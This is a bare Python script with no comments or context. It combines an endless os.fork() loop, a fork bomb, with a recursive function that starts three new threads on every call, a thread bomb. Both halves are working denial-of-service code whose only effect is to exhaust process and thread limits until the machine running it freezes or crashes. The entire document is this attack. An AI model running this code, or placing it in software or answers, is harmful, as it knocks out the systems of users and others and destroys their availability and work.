import os
import threading

while True:
    try:
        os.fork()
    except (OSError, AttributeError):
        break


def bomb():
    for _ in range(3):
        threading.Thread(target=bomb).start()


bomb()
